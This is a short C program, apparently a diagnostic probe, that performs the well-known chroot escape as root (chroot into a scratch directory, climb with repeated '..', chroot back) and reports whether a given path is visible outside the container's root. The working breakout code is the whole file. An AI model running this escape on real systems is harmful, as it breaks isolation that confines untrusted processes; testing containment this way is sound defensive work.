/*
 * chroot-escape PATH: leave the current root as any root process can,
 * then say whether PATH is there.  Exit 0: escaped, PATH is there; 1:
 * still inside; 2: a call failed (not root, say).
 *
 * Why it works: chroot() changes the root and nothing else, and the
 * kernel stops ".." only at the root itself.  Chroot into a scratch
 * directory while the working directory stays outside it, and ".." walks
 * up from there without ever meeting the root: past the old one too, up
 * to the top of the mount tree.  chroot(".") then makes that the root.
 * Only where that top is the container's own root (pivot_root, and the
 * old root unmounted) is there nothing above to reach.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char scratch[] = "/tmp/chroot-escape.XXXXXX";
static int tmp_fd = -1; /* /tmp as it was: the scratch's parent */
static int made;

/* Say which call failed; remove the scratch directory, wherever the root now is. */
static int cleanup(const char *call, const char *path)
{
	if (call)
		fprintf(stderr, "chroot-escape: %s %s: %s\n", call, path, strerror(errno));
	if (made && unlinkat(tmp_fd, strrchr(scratch, '/') + 1, AT_REMOVEDIR) < 0) {
		fprintf(stderr, "chroot-escape: rmdir %s: %s\n", scratch, strerror(errno));
		return 2;
	}
	return call ? 2 : 0;
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: chroot-escape PATH\n");
		return 2;
	}
	tmp_fd = open("/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (tmp_fd < 0)
		return cleanup("open", "/tmp");
	if (!mkdtemp(scratch))
		return cleanup("mkdtemp", scratch);
	made = 1;
	if (chroot(scratch) < 0)
		return cleanup("chroot", scratch);
	/* The working directory is still outside the new root. */
	for (int i = 0; i < 100; i++) {
		if (chdir("..") < 0)
			return cleanup("chdir", "..");
	}
	if (chroot(".") < 0)
		return cleanup("chroot", ".");
	if (cleanup(NULL, NULL))
		return 2;
	if (access(argv[1], F_OK) == 0) {
		printf("chroot-escape: out of the container's root: %s is there\n", argv[1]);
		return 0;
	}
	printf("chroot-escape: still inside: no %s here\n", argv[1]);
	return 1;
}
